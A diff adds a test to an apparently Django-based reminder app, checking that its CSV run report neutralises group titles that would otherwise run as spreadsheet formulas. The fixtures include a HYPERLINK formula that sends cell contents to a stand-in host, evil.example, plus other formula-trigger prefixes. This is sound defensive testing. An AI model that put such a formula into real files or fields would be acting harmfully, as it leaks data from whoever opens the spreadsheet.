@@ -65,3 +65,18 @@ def test_the_run_page_links_the_csv_and_a_viewer_may_download_it(client, django_
     assert (rows[3]["message_id"], rows[3]["album_message_ids"]) == (str(album[0]), f"{album[1]} {album[2]}")
     assert rows[4]["status"] == "failed" and rows[4]["message_id"] == "" and rows[4]["sent_at"] == ""
     assert world.stats()["calls"][SENDER]["messages.sendMultiMedia"] == 2
+
+
+def test_the_csv_keeps_a_spreadsheet_from_running_a_groups_title_as_a_formula(fanout_world, operator):
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1 deals", "-sale", "@home", "\tnews", "\rnews"]
+    world = groups_world(groups=len(hostile))
+    for chat, title in zip(world["chats"], hostile, strict=True):
+        chat["title"] = title
+    fanout_world(world)
+    run = execute(reminder_fire(reminder=make_reminder(parts=[PartSpec(text="Sale")])))
+
+    response = operator.get(reverse("reminders:activity-run-report", args=[run.pk]))
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
+    assert sorted(row["group"] for row in rows) == sorted("'" + title for title in hostile)
+    assert all(row["chat"].lstrip("-").isdigit() for row in rows), "numbers stay numbers, a minus sign and all"
